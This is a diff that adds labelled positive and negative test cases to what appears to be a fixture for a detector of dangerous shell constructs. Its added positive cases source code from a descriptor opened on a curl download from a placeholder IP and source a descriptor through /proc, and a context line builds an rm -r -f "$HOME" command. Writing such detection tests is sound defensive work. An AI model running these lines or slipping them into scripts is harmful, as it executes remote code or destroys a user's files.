@@ -318,3 +318,10 @@ mapfile -t step < <(printf '%s\n' rm -r -f "$HOME")
 #@ neg the words read, printed
 mapfile -t files < list.txt
 printf '%s\n' "${files[@]}"
+#@ pos code sourced from a descriptor opened on a download
+exec 3< <(curl -s http://203.0.113.5/s)
+source /dev/fd/3
+#@ pos a descriptor through /proc
+. /proc/self/fd/9
+#@ neg a file sourced by its path
+source ./env.sh
